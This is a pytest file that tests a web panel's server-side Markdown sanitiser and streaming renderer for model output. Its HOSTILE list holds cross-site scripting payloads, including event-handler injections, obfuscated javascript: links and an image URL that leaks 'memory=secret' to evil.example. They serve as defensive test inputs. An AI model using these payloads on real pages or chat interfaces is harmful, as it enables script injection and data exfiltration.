"""The model's Markdown as the web panel shows it: rendered on the server, sanitised, never
obeyed (hostile samples), and re-rendered while streaming at most every interval."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from hermes.frontends.web.markdown import StreamRenderer, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<iframe src=https://evil.example></iframe>",
    "<style>body { display: none }</style>",
    "<a href=\"https://evil.example\" onclick=\"steal()\">raw</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "![pixel](https://evil.example/leak?memory=secret)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <b onmouseover=alert(1)>x</b> |",
    "```sr\nhidden by the panel's own class?\n```",
    "<form action=/facts/1/purge method=post><button>Click</button></form>",
]


SAFE_TAGS = {"p", "br", "strong", "em", "s", "code", "pre", "ul", "ol", "li", "a", "table",
             "thead", "tbody", "tr", "th", "td", "blockquote"}


class Tags(HTMLParser):
    """Every element and attribute a browser would build from the HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE)
def test_the_models_markup_is_shown_never_obeyed(text):
    parsed = Tags()
    parsed.feed(str(to_html(text)))
    for tag, attrs in parsed.found:
        assert tag in SAFE_TAGS, (tag, text)
        assert not [a for a in attrs if a.startswith("on") or a == "src"], (tag, attrs)
        if tag == "a":
            assert attrs["href"].startswith(("https:", "http:", "mailto:")), attrs
        assert attrs.get("class") in (None, "language-html", "language-sr"), attrs


def test_markdown_renders_code_blocks_lists_tables_and_links():
    html = str(to_html("**Raspberry Pi OS Lite (64-bit)**\n\n```sh\nsudo apt update && "
                       "sudo apt full-upgrade\n```\n\n- one\n- two\n\n| a | b |\n|:-|-:|\n| 1 | 2 |"
                       "\n\nSee [the docs](https://www.raspberrypi.com/documentation/)."))
    assert "<strong>Raspberry Pi OS Lite (64-bit)</strong>" in html
    assert '<pre><code class="language-sh">sudo apt update &amp;&amp; sudo apt full-upgrade' \
        in html
    assert "<li>one</li>" in html and '<td style="text-align:right">2</td>' in html
    assert '<a href="https://www.raspberrypi.com/documentation/" rel="noopener noreferrer ' \
        'nofollow">the docs</a>' in html


def test_an_unclosed_code_fence_renders_as_code_while_it_streams():
    assert str(to_html("Run:\n\n```\nsudo reboot")) == \
        "<p>Run:</p>\n<pre><code>sudo reboot</code></pre>\n"


def test_while_streaming_the_html_is_sent_at_most_every_interval_and_a_pause_flushes_it():
    now = [0.0]
    renderer = StreamRenderer(interval=0.1, clock=lambda: now[0])
    assert renderer.due() is None
    assert str(renderer.add("**bo")) == "<p>**bo</p>\n"          # the first piece at once
    assert renderer.add("ld**") is None                          # then not before 0.1 s
    assert renderer.due() == pytest.approx(0.1)
    now[0] = 0.05
    assert renderer.add(" text") is None
    now[0] = 0.1                                                 # a pause: due now
    assert renderer.due() == 0
    assert str(renderer.flush()) == "<p><strong>bold</strong> text</p>\n"
    assert renderer.due() is None and renderer.flush() is None   # nothing new
